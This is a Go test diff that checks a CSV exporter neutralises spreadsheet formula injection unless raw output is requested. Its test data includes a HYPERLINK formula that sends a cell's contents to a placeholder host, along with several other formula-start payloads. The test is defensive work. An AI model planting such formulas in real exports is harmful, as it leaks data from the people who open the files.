@@ -83,3 +83,92 @@ func TestCSV(t *testing.T) {
 		})
 	}
 }
+
+// TestCSVFormulaCells checks that text a spreadsheet would run as a
+// formula is written inert, unless RawCSV asks for the cells as they are.
+func TestCSVFormulaCells(t *testing.T) {
+	hostile := []string{
+		`=HYPERLINK("http://example.invalid/?"&A1,"click")`,
+		"+1+2",
+		"-2+3",
+		"@SUM(1,2)",
+		"\t=1+1",
+		"\r=1+1",
+	}
+	docs := collect(genDocuments(genConfig{Seed: 3, FirstSession: 79, Sessions: 1, Meetings: 1, Speeches: 40, Paragraphs: 2}))
+	rec, ann := docs[0].Record, docs[0].Annotation
+	coded := map[[2]int]bool{}
+	for _, sa := range ann.Speeches {
+		for _, pa := range sa.Paragraphs {
+			if len(pa.Themes) > 0 {
+				coded[[2]int{sa.Seq, pa.N}] = true
+			}
+		}
+	}
+	planted := 0
+	for i := range rec.Speeches {
+		sp := &rec.Speeches[i]
+		if planted == len(hostile) || len(sp.Paragraphs) == 0 || !coded[[2]int{sp.Seq, sp.Paragraphs[0].N}] {
+			continue
+		}
+		sp.Speaker = hostile[planted]
+		sp.Paragraphs[0].Text = hostile[planted] + " and the rest of the paragraph."
+		planted++
+	}
+	if planted < len(hostile) {
+		t.Fatalf("only %d coded paragraphs to plant formulas in, want %d", planted, len(hostile))
+	}
+	for _, tt := range []struct {
+		name   string
+		raw    bool
+		prefix string
+	}{
+		{"guarded", false, "'"},
+		{"raw", true, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var buf bytes.Buffer
+			if err := WriteCSVFrom(context.Background(), &buf, documentsOf(docs), Options{RawCSV: tt.raw}); err != nil {
+				t.Fatal(err)
+			}
+			records, err := csv.NewReader(&buf).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			speakers := map[string]bool{}
+			texts := map[string]bool{}
+			for _, rec := range records[1:] {
+				speakers[rec[8]] = true
+				texts[rec[12]] = true
+				for _, cell := range rec {
+					if tt.raw || cell == "" {
+						continue
+					}
+					if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+						t.Errorf("cell %q starts like a formula", cell)
+					}
+				}
+			}
+			for _, h := range hostile {
+				// encoding/csv drops the carriage returns of quoted fields.
+				h = tt.prefix + strings.ReplaceAll(h, "\r", "")
+				if !speakers[h] {
+					t.Errorf("no speaker cell %q", h)
+				}
+				if !texts[h+" and the rest of the paragraph."] {
+					t.Errorf("no text cell %q", h+" and the rest of the paragraph.")
+				}
+			}
+		})
+	}
+}
+
+func documentsOf(docs []*Document) Documents {
+	return func(yield func(*Document, error) bool) {
+		for _, d := range docs {
+			if !yield(d, nil) {
+				return
+			}
+		}
+	}
+}
